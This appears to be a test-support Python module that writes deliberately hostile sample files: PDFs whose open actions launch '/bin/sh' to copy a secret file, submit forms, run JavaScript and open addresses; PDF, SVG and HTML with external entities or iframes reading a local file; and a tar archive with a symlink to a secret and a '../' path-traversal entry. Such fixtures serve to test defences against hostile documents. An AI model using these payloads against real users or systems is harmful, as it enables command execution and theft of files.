"""Files that ask their reader to run programs, to open other files, or to fetch addresses."""

import io
import tarfile
from pathlib import Path

from tests.support.made_documents import raw_pdf, stream


def pdf_with_actions(path: Path, *, secret: Path, address: str) -> Path:
    """Write a PDF that starts a program, sends its form, runs a script and opens an address when it is opened."""
    launch = b"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'cp %s %s.copy') >> " % (
        _of(secret),
        _of(secret),
    )
    submit = b"/Next [<< /S /SubmitForm /F << /FS /URL /F (%s) >> >> " % address.encode()
    script = b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); this.submitForm\\('%s'\\);) >> " % (
        address.encode(),
        address.encode(),
    )
    other = b"<< /S /GoToR /F (%s) /D [0 /Fit] >> << /S /URI /URI (%s) >>] >>" % (_of(secret), address.encode())
    action = launch + submit + script + other
    return raw_pdf(
        path,
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /AA << /WC %s >> >>" % (action, action),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /AA << /O %s >> "
            b"/Resources << /Font << /F1 5 0 R >> >> >>" % action,
            stream(b"BT /F1 18 Tf 20 100 Td (Invoice) Tj ET"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ],
    )


def pdf_with_outside_streams(path: Path, *, secret: Path, address: str) -> Path:
    """Write a PDF whose text, picture, font and form (XFA) lie in another file or at an address."""
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}"><!ENTITY u SYSTEM "{address}">]><x>&e;&u;</x>'.encode()
    return raw_pdf(
        path,
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA [(template) 7 0 R] /Fields [] >> /Metadata 7 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents [4 0 R 8 0 R] "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /I 6 0 R >> >> >>",
            stream(b"BT /F1 18 Tf 20 100 Td (Invoice) Tj ET /I Do"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            stream(
                b"",
                b"/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray /BitsPerComponent 8 "
                b"/F << /FS /URL /F (%s) >>" % address.encode(),
            ),
            stream(entity, b"/Type /Metadata /Subtype /XML"),
            stream(b"", b"/F (%s)" % _of(secret)),
        ],
    )


def page_with_outside_pictures(path: Path, *, secret: Path, address: str) -> Path:
    """Write a web page that fetches a picture, a script and a file."""
    path.write_text(
        f'<!DOCTYPE html><html><img src="{address}"><script src="{address}"></script>'
        f'<iframe src="file://{secret}"></iframe></html>'
    )
    return path


def drawing_with_entities(path: Path, *, secret: Path, address: str) -> Path:
    """Write an SVG picture that quotes a file, and shows a picture from an address."""
    path.write_text(
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file://{secret}">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text><image href="{address}"/></svg>'
    )
    return path


def archive_of_links(path: Path, *, secret: Path, address: str) -> Path:
    """Write a tar file with a link to a file, and a file that would lie outside the folder it is unpacked into."""
    with tarfile.open(path, "w") as archive:
        link = tarfile.TarInfo("page.pdf")
        link.type, link.linkname = tarfile.SYMTYPE, str(secret)
        archive.addfile(link)
        outside = tarfile.TarInfo(f"../{secret.name}.copy")
        outside.size = len(address)
        archive.addfile(outside, io.BytesIO(address.encode()))
    return path


def _of(path: Path) -> bytes:
    return str(path).encode()
